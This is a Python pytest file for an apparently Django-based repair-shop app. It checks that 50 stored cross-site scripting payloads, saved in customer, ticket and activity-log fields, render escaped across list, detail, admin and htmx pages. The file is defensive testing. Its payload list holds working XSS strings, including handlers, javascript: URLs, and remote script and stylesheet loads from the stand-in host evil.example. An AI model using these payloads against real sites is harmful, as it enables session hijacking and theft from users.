"""Stored XSS: 50 payloads saved in customer and ticket fields (and in the activity log that
records their changes), rendered on every page that shows them; none may come out as markup.

A payload counts as unescaped when the page holds it verbatim (each one contains a character
that escaping changes), or when parsing the page finds an element or attribute it created:
a script mentioning its marker, an on* handler, a javascript: URL, a srcdoc, a meta/base/
link/iframe/object/embed/style element carrying its marker.
"""

import re
from html.parser import HTMLParser

import pytest

from accounts import roles
from core.activity import record_activity
from customers.models import Customer
from tests.factories import make_user
from tickets.models import Ticket

_RAW = [
    '<script>alert("{m}")</script>',
    '<img src=x onerror=alert("{m}")>',
    '<svg onload=alert("{m}")>',
    '"><script>alert("{m}")</script>',
    "'><script>alert('{m}')</script>",
    '" onmouseover="alert(\'{m}\')" x="',
    "' onfocus='alert(1)' autofocus x='{m}",
    "<body onload=alert('{m}')>",
    "<iframe src=\"javascript:alert('{m}')\"></iframe>",
    "<iframe srcdoc=\"<script>alert('{m}')</script>\"></iframe>",
    "<a href=\"javascript:alert('{m}')\">click</a>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert('{m}')>",
    '<details open ontoggle=alert("{m}")>',
    '<input autofocus onfocus=alert("{m}")>',
    '<video><source onerror=alert("{m}")></video>',
    "<object data=\"javascript:alert('{m}')\"></object>",
    "<embed src=\"javascript:alert('{m}')\">",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(\'{m}\')">',
    '<base href="https://evil.example/{m}/">',
    '<link rel=stylesheet href="https://evil.example/{m}.css">',
    "<style>@import 'https://evil.example/{m}.css';</style>",
    '</textarea><script>alert("{m}")</script>',
    '</title><script>alert("{m}")</script>',
    '<!--<script>alert("{m}")</script>-->',
    '<scr<script>ipt>alert("{m}")</scr</script>ipt>',
    "<SCRIPT SRC=https://evil.example/{m}.js></SCRIPT>",
    '<img src="x" onerror="&#97;lert(\'{m}\')">',
    '<svg><script>alert("{m}")</script></svg>',
    "<form action=\"javascript:alert('{m}')\"><button>go</button></form>",
    "<button formaction=\"javascript:alert('{m}')\">go</button>",
    "<div style=\"background:url(javascript:alert('{m}'))\">x</div>",
    '<marquee onstart=alert("{m}")>',
    '<select autofocus onfocus=alert("{m}")>',
    '<keygen autofocus onfocus=alert("{m}")>',
    '<textarea autofocus onfocus=alert("{m}")>',
    '<audio src=x onerror=alert("{m}")>',
    '<img """><script>alert("{m}")</script>">',
    '<img src=`x` onerror=alert("{m}")>',
    "<a href=\"data:text/html,<script>alert('{m}')</script>\">x</a>",
    '<div hx-get="/evil/{m}" hx-trigger="load">x</div>',
    "<div hx-on:click=\"alert('{m}')\">x</div>",
    '{{{{ 7*7 }}}}<script>alert("{m}")</script>',
    "{{% debug %}}<b>{m}</b>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert('{m}')>\">",
    '<isindex type=image src=1 onerror=alert("{m}")>',
    "javascript:alert('{m}')//<br>",
    '<template><script>alert("{m}")</script></template>',
    '<x onclick=alert("{m}")>click</x>',
    "\"'><img src=x onerror=alert('{m}')>",
    "<svg><a xlink:href=\"javascript:alert('{m}')\"><text>x</text></a></svg>",
]
# The marker holds a dot so that no random value on a page (a CSRF token is letters and digits,
# a CSP nonce is URL-safe base64) can ever contain one: a token that happened to spell "XSS"
# used to make this test fail about once in fifteen runs.
PAYLOADS = [raw.format(m=f"XSS.{n:02d}") for n, raw in enumerate(_RAW)]
_MARKER = re.compile(r"XSS\.\d\d")
assert len(PAYLOADS) == 50 and len(set(PAYLOADS)) == 50
assert all(set(payload) & set("<>\"'") for payload in PAYLOADS)

_DANGEROUS_URL_ATTRS = {"href", "src", "action", "formaction", "data", "xlink:href", "srcdoc"}
_DANGEROUS_TAGS = {"meta", "base", "link", "iframe", "object", "embed", "style", "template"}


class _InjectionFinder(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self._in_script = False

    def handle_starttag(self, tag, attrs):
        self._in_script = tag == "script"
        for name, value in attrs:
            value = value or ""
            if not (_MARKER.search(value) or _MARKER.search(name)):
                continue
            lowered = value.strip().lower()
            if name.startswith("on") or name.startswith("hx-"):
                self.found.append(f"<{tag} {name}=...>")
            elif name in _DANGEROUS_URL_ATTRS and (
                name == "srcdoc" or lowered.startswith(("javascript:", "data:", "vbscript:"))
            ):
                self.found.append(f"<{tag} {name}={value[:40]}>")
            elif tag in _DANGEROUS_TAGS or name == "style":
                self.found.append(f"<{tag} {name}=...>")

    def handle_endtag(self, tag):
        if tag == "script":
            self._in_script = False

    def handle_data(self, data):
        if self._in_script and _MARKER.search(data):
            self.found.append(f"<script>{data[:40]}")


def injections(html: str) -> list[str]:
    found = [f"verbatim: {payload[:40]}" for payload in PAYLOADS if payload in html]
    finder = _InjectionFinder()
    finder.feed(html)
    return found + finder.found


def test_the_checker_finds_an_unescaped_payload():
    """The checker itself must be able to fail."""
    for payload in PAYLOADS:
        assert injections(f"<p>{payload}</p>"), payload
    assert injections('<p title="x" onclick="alert(\'XSS.99\')">')


def _fit(payload: str, length: int) -> str:
    return payload[:length]


@pytest.fixture
def stored(db, technician):
    customers, tickets = [], []
    for n, payload in enumerate(PAYLOADS):
        customer = Customer.objects.create(
            first_name=_fit(payload, 100),
            last_name=_fit(payload, 100),
            email=f"xss{n}@example.com",
            phone=_fit(payload, 32),
            address1=_fit(payload, 200),
            address2=_fit(payload, 200),
            city=_fit(payload, 100),
            state=_fit(payload, 100),
            zip=_fit(payload, 20),
            country="GB",
            notes=payload,
        )
        ticket = Ticket.objects.create(
            customer=customer,
            tech=technician,
            title=_fit(payload, 200),
            description=payload,
            category=_fit(payload, 100),
            notes=payload,
            device_brand=_fit(payload, 100),
            device_model=_fit(payload, 100),
            serial_number=_fit(payload, 100),
            accessories=payload,
            condition=payload,
        )
        # The activity log quotes changed values; it is shown on the detail pages.
        for object_type, obj in (("customer", customer), ("ticket", ticket)):
            record_activity(
                actor=technician,
                action=f"{object_type}:update",
                object_type=object_type,
                object_id=obj.pk,
                metadata={"changes": {"notes": {"old": payload, "new": payload}}, "notes": payload},
            )
        customers.append(customer)
        tickets.append(ticket)
    return customers, tickets


def _pages(customers, tickets):
    yield "/customers/?pageSize=100"
    yield "/customers/?search=xss&pageSize=100"
    yield "/tickets/?pageSize=100"
    yield "/tickets/?search=xss&pageSize=100"
    yield "/tickets/new/"
    yield "/admin/customers/customer/"
    yield "/admin/tickets/ticket/"
    yield "/admin/repairshop/activitylog/"
    for customer in customers:
        yield f"/customers/{customer.pk}/"
        yield f"/customers/{customer.pk}/edit/"
        yield f"/admin/customers/customer/{customer.pk}/change/"
    for ticket in tickets:
        yield f"/tickets/{ticket.pk}/"
        yield f"/admin/tickets/ticket/{ticket.pk}/change/"


def test_no_stored_payload_renders_as_markup(client, stored):
    customers, tickets = stored
    manager = make_user(username="boss", roles=[roles.MANAGER], is_staff=True)
    client.force_login(manager)
    shown: set[str] = set()
    problems = {}
    for url in _pages(customers, tickets):
        response = client.get(url)
        assert response.status_code == 200, url
        html = response.content.decode()
        shown |= set(_MARKER.findall(html))
        found = injections(html)
        if found:
            problems[url] = found[:3]
    assert problems == {}
    assert len(shown) == 50  # every payload was on the pages, escaped


def test_technician_queue_and_htmx_partials_escape_payloads(client, stored, technician):
    client.force_login(technician)
    for url in ("/tickets/queue/", "/tickets/?pageSize=100"):
        for headers in ({}, {"HTTP_HX_REQUEST": "true"}):
            response = client.get(url, **headers)
            assert response.status_code == 200, url
            html = response.content.decode()
            assert _MARKER.search(html), url
            assert injections(html) == [], url
